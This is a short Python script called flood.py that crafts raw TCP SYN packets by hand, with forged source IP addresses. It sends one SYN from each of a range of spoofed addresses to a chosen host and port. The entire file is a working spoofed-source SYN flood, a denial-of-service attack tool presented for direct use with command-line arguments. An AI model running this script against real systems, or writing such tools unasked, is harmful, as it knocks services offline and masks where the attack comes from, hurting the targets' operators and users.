# SPDX-License-Identifier: Apache-2.0
"""A program that only imports the standard library: SYNs from many addresses that are not its own.

flood.py HOST PORT FIRST COUNT    one SYN from each of COUNT addresses, the first being FIRST
"""

import socket
import struct
import sys

SOURCE_PORT = 4000


def checksum(words: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source: bytes, destination: bytes, port: int) -> bytes:
    """With an IP header whose length, id and checksum the kernel fills in (raw(7))."""

    def header(check: int) -> bytes:
        return struct.pack("!HHIIBBHHH", SOURCE_PORT, port, 1000, 0, 5 << 4, 2, 64240, check, 0)

    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(header(0)))
    ip = struct.pack("!BBHHHBBH", 4 << 4 | 5, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + header(checksum(pseudo + header(0)))


def main(host: str, port: str, first: str, count: str) -> None:
    destination = socket.inet_aton(host)
    (start,) = struct.unpack("!I", socket.inet_aton(first))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(start, start + int(count)):
            raw.sendto(syn(struct.pack("!I", number), destination, int(port)), (host, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
